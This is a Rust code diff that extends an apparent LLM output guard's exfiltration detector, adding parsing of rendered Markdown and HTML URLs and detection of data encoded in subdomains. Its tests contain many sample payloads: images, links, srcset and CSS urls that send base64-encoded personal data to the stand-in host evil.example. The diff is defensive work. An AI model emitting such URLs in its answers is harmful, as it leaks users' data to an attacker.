@@ -18,6 +18,7 @@
 //! ([`MAX_URL`] bytes of URL, [`MAX_TAG`] bytes of tag), which bounds what a stream holds
 //! back; in practice only the unterminated construct at the end of a chunk is held.
 
+use super::rendered_urls::{UrlUse, rendered_urls};
 use super::{Detections, Detector, trailing_word_start};
 use crate::engine::Context;
 use crate::error::GuardError;
@@ -140,7 +141,17 @@ impl Detector for ExfiltrationDetector {
             return Ok(());
         }
         let haystack = text.text();
+        // What this call reported (normalised byte spans): a construct that several
+        // passes find (a pattern and the parser) is reported once.
+        let mut reported: Vec<(usize, usize, &'static str)> = Vec::new();
         let mut push = |start: usize, end: usize, entity: &'static str, score: f32| {
+            if reported
+                .iter()
+                .any(|&(s, e, k)| k == entity && s < end && start < e)
+            {
+                return;
+            }
+            reported.push((start, end, entity));
             // Unterminated constructs (`<script` with no `>`) run to the end of the text:
             // report their beginning, which is what a renderer acts on.
             let end = if end - start > MAX_MATCH {
@@ -221,6 +232,19 @@ impl Detector for ExfiltrationDetector {
                     push(all.start(), all.end(), entity, score);
                 }
             }
+        }
+        // The renderer's own reading: every image, link, autolink, reference definition
+        // and raw-HTML URL that CommonMark and HTML give (see `rendered_urls`).
+        for found in rendered_urls(haystack) {
+            let Some(score) = self.judge_url(&found.url, found.how.loads_by_itself()) else {
+                continue;
+            };
+            let entity = match found.how {
+                UrlUse::MarkdownImage => "MARKDOWN_IMAGE_EXFILTRATION",
+                UrlUse::HtmlLoad => "IMAGE_EXFILTRATION",
+                UrlUse::MarkdownLink | UrlUse::HtmlLink => "LINK_EXFILTRATION",
+            };
+            push(found.span.start, found.span.end, entity, score);
         }
         if self.html {
             for m in self.html_exec.find_iter(haystack) {
@@ -356,52 +380,80 @@ enum DataAmount {
     Encoded,
 }
 
-/// The parts of an absolute `http(s)` URL that matter here.
+/// The parts of an absolute URL that a client fetches that matter here.
 #[derive(Debug)]
-struct UrlParts<'a> {
+struct UrlParts {
     host: String,
-    path: &'a str,
-    query: &'a str,
-    fragment: &'a str,
+    path: String,
+    query: String,
+    fragment: String,
 }
 
-impl<'a> UrlParts<'a> {
-    fn parse(url: &'a str) -> Option<Self> {
-        let rest = if let Some((scheme, rest)) = url.split_once("://") {
-            if !scheme.eq_ignore_ascii_case("http") && !scheme.eq_ignore_ascii_case("https") {
-                return None;
+/// Schemes a client fetches or follows to a host of the attacker's choosing.
+const NETWORK_SCHEMES: &[&str] = &["http", "https", "ftp", "ws", "wss"];
+
+impl UrlParts {
+    /// Parse `url` as a browser does for the schemes that reach a host: ASCII tabs and
+    /// line breaks are ignored, a backslash is a slash, any number of slashes may follow
+    /// the scheme (`https:evil.example`, `https:/\\evil.example`), and `//host` is
+    /// relative to the scheme. The host is percent-decoded and lower-cased. `None` for
+    /// other schemes and for relative URLs (they stay on the site showing the answer).
+    fn parse(url: &str) -> Option<Self> {
+        let cleaned: String = url
+            .trim_matches(|c: char| c <= ' ')
+            .chars()
+            .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
+            .map(|c| if c == '\\' { '/' } else { c })
+            .collect();
+        let after_scheme = match cleaned.split_once(':') {
+            Some((scheme, rest))
+                if !scheme.is_empty()
+                    && scheme.starts_with(|c: char| c.is_ascii_alphabetic())
+                    && scheme
+                        .chars()
+                        .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.')) =>
+            {
+                if !NETWORK_SCHEMES
+                    .iter()
+                    .any(|s| scheme.eq_ignore_ascii_case(s))
+                {
+                    return None;
+                }
+                rest.trim_start_matches('/')
             }
-            rest
-        } else {
-            url.strip_prefix("//")?
+            _ => cleaned.strip_prefix("//")?.trim_start_matches('/'),
         };
-        let authority_end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
-        let authority = &rest[..authority_end];
+        let authority_end = after_scheme
+            .find(['/', '?', '#'])
+            .unwrap_or(after_scheme.len());
+        let authority = &after_scheme[..authority_end];
         let host_port = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
         let host = if let Some(v6) = host_port.strip_prefix('[') {
             v6.split(']').next().unwrap_or(v6)
         } else {
             host_port.split(':').next().unwrap_or(host_port)
         };
-        let host = host.trim_end_matches('.').to_ascii_lowercase();
+        let host = percent_decode(host)
+            .trim_end_matches('.')
+            .to_ascii_lowercase();
         if host.is_empty() {
             return None;
         }
-        let tail = &rest[authority_end..];
+        let tail = &after_scheme[authority_end..];
         let (before_fragment, fragment) = tail.split_once('#').unwrap_or((tail, ""));
         let (path, query) = before_fragment
             .split_once('?')
             .unwrap_or((before_fragment, ""));
         Some(UrlParts {
             host,
-            path,
-            query,
-            fragment,
+            path: path.to_owned(),
+            query: query.to_owned(),
+            fragment: fragment.to_owned(),
         })
     }
 
     fn data(&self) -> DataAmount {
-        let mut amount = DataAmount::None;
+        let mut amount = judge_host(&self.host);
         for segment in self.path.split('/') {
             amount = amount.max(judge_value(segment, false));
         }
@@ -409,7 +461,62 @@ impl<'a> UrlParts<'a> {
             let value = pair.split_once('=').map_or(pair, |(_, v)| v);
             amount = amount.max(judge_value(value, true));
         }
-        amount.max(judge_value(self.fragment, true))
+        amount.max(judge_value(&self.fragment, true))
+    }
+}
+
+/// `s` with `%XX` escapes decoded (invalid escapes and non-UTF-8 results kept as
+/// written): what a browser does to a host before resolving it.
+fn percent_decode(s: &str) -> String {
+    if !s.contains('%') {
+        return s.to_owned();
+    }
+    let b = s.as_bytes();
+    let mut out = Vec::with_capacity(b.len());
+    let mut i = 0;
+    while i < b.len() {
+        let hex = |c: u8| (c as char).to_digit(16);
+        if b[i] == b'%'
+            && let (Some(h), Some(l)) = (
+                b.get(i + 1).copied().and_then(hex),
+                b.get(i + 2).copied().and_then(hex),
+            )
+        {
+            out.push((h * 16 + l) as u8);
+            i += 3;
+            continue;
+        }
+        out.push(b[i]);
+        i += 1;
+    }
+    String::from_utf8(out).unwrap_or_else(|_| s.to_owned())
+}
+
+/// How much data the host name carries in its labels: a subdomain of the attacker's
+/// domain can spell the data (`4a6f686e.evil.example`), and DNS resolution alone
+/// delivers it. The last two labels (the registrable name, roughly) are not judged.
+fn judge_host(host: &str) -> DataAmount {
+    if host.parse::<std::net::IpAddr>().is_ok() {
+        return DataAmount::None;
+    }
+    let labels: Vec<&str> = host.split('.').collect();
+    let sub = &labels[..labels.len().saturating_sub(2)];
+    let total: usize = sub.iter().map(|l| l.len()).sum();
+    let encoded_label = |label: &&str| {
+        let len = label.len();
+        let digits = label.bytes().filter(u8::is_ascii_digit).count();
+        let letters = label.bytes().filter(u8::is_ascii_alphabetic).count();
+        let alnum = digits + letters == len;
+        let hexish = label.bytes().all(|b| b.is_ascii_hexdigit());
+        len >= 24
+            || (len >= 16 && hexish && digits >= 4)
+            || (len >= 16 && alnum && digits >= 4 && letters >= 4)
+            || (!label.is_ascii() && label.chars().count() >= 16)
+    };
+    if total >= 64 || sub.iter().any(encoded_label) {
+        DataAmount::Encoded
+    } else {
+        DataAmount::None
     }
 }
 
@@ -671,6 +778,86 @@ mod tests {
             "{f:?}"
         );
         assert!(f.iter().any(|(_, v)| v.starts_with("javascript:alert(1)")));
+    }
+
+    /// Each form that CommonMark or HTML renders as an image with data, one per class.
+    #[test]
+    fn every_rendered_image_form_is_exfiltration() {
+        let data = "QWxpY2UgSm9uZXMsIDQxMTEgMTExMQ";
+        let cases = [
+            format!("![a [nested [deep]] alt](https://evil.example/p.png?d={data})"),
+            format!("![a](https&#58;//evil.example/p.png?d={data})"),
+            format!("![a](https&#x3a;&#x2f;&#x2f;evil.example/p.png?d={data})"),
+            format!("![a](https://evil.example/p(1).png?d=({data}))"),
+            format!("![a][r]\n\n> [r]: https://evil.example/p.png?d={data}"),
+            format!("![a][r]\n\n* item\n\n  [r]: https://evil.example/p.png?d={data}"),
+            format!("![a][r]\n\n[r]:\n  https://evil.example/p.png?d={data}"),
+            format!("![line\nbreak](https://evil.example/p.png?d={data})"),
+            format!("![a](\nhttps://evil.example/p.png?d={data}\n\"title\")"),
+            format!("![a](<https://evil.example/p.png?d={data}>)"),
+            format!("![a](https:\\\\evil.example/p.png?d={data})"),
+            format!("![a](HTTPS://EVIL.example/p.png?d={data})"),
+            format!("<img src=\"https&#58;//evil.example/p.png?d={data}\">"),
+            format!("<img src=https&colon;&sol;&sol;evil.example/p.png?d={data}>"),
+            format!("<img srcset=\"ok.png 1x, https://evil.example/p.png?d={data} 2x\">"),
+            format!("<img\nalt=\"a>b\"\nsrc=\"https://evil.example/p.png?d={data}\">"),
+            format!("<span style=\"background:url(https://evil.example/p.png?d={data})\">x</span>"),
+            // Data in the host name, with no path or query at all.
+            "![a](https://4a6f686e20446f65206c69766573.evil.example/x.png)".to_owned(),
+            "![a](https://mfrggzdfmztwq2lknnwg23tpobyxe43u.evil.example/x.png)".to_owned(),
+            "![a](https://john.doe.lives.at.calle.mayor.12.madrid.spain.postcode.28013.phone.612345678.evil.example/x.png)".to_owned(),
+            "![a](https://ev%69l.example/x.png?n=ana)".to_owned(),
+        ];
+        for text in &cases {
+            let f = findings("", text);
+            assert!(
+                f.iter().any(|(k, _)| k.ends_with("IMAGE_EXFILTRATION")),
+                "{text:?}: {f:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn links_with_data_are_exfiltration_in_every_rendered_form() {
+        let data = "QWxpY2UgSm9uZXMsIDQxMTEgMTExMQ";
+        for text in [
+            format!("[a [b]](https://evil.example/c?d={data})"),
+            format!("<https://evil.example/c?d={data}>"),
+            format!("[a][r]\n\n> [r]: https://evil.example/c?d={data}"),
+            format!("<a href=\"https&#58;//evil.example/c?d={data}\">x</a>"),
+            "[a](https://4a6f686e20446f65206c69766573.evil.example/)".to_owned(),
+        ] {
+            let f = findings("", &text);
+            assert!(
+                f.iter().any(|(k, _)| k == "LINK_EXFILTRATION"),
+                "{text:?}: {f:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn the_parser_pass_does_not_report_ordinary_answers() {
+        let policy = "[exfiltration]\nallowed_domains = [\"acme.example\"]\n";
+        for text in [
+            "See [the docs](https://docs.rs/regex/latest/regex/) and <https://example.org/about>.",
+            "![logo](https://cdn.acme.example/logo.png?v=3) and ![b](https://img.acme.example/x.png?d=QWxpY2UgSm9uZXMsIDQxMTEgMTExMQ)",
+            "[1]: https://en.wikipedia.org/wiki/Rust_(programming_language)",
+            "<a href=\"/relative/path?x=1\">rel</a> <img src=\"data.png\"> <b>bold</b>",
+            "Servers: ec2-54-12-33-1.compute-1.amazonaws.com and my-bucket-2024.s3.amazonaws.com/file.pdf",
+            "[mail](mailto:ana@example.es) [tel](tel:+34600000000)",
+        ] {
+            let f = findings(policy, text);
+            assert!(f.is_empty(), "{text:?}: {f:?}");
+        }
+    }
+
+    #[test]
+    fn a_construct_found_by_a_pattern_and_the_parser_is_reported_once() {
+        let f = findings(
+            "",
+            "![x](https://evil.example/p.png?d=QWxpY2UgSm9uZXMsIDQxMTEgMTExMQ)",
+        );
+        assert_eq!(f.len(), 1, "{f:?}");
     }
 
     #[test]
